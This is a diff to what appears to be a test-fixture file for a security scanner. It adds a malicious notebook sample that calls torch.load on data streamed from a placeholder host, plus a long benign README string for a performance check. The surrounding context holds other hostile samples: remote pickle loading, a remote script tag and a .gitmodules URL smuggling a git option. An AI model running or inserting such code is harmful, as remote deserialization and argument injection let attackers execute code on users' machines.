@@ -202,6 +202,10 @@ def source() -> Iterator[Sample]:
     )
     yield "a.ipynb", notebook("x", text_html="<!-- plotly --><script src='https://host/x.js'></script>")
     yield "a.ipynb", notebook("import pickle, requests\npickle.loads(requests.get('https://host/x').content)")
+    yield (
+        "a.ipynb",
+        notebook("import requests, torch\ntorch.load(f=requests.get('https://host/x', stream=True).raw)"),
+    )
     loads = "torch.load(io.BytesIO(requests.get('https://host/x').content))"
     yield "a.ipynb", notebook(f"import io, requests, torch\n{loads}")
     yield ".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = -u./payload\n'
@@ -424,6 +428,7 @@ def honest() -> Iterator[Sample]:
     yield "a.rtf", rb"{\rtf1 Hello}"
     yield "model.py", b"x = [" + b"1," * 40_000 + b"]\n"
     yield "prompt.md", b"{{ a }}" * 10_000
+    yield "README.md", b"](" + b" " * 200_000  # in no more time than its length asks for
     yield ".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = https://github.com/org/x\n'
     for kept in (
         "{% for a in range(9999) %}x{% endfor %}{% for b in range(9999) %}{% endfor %}",
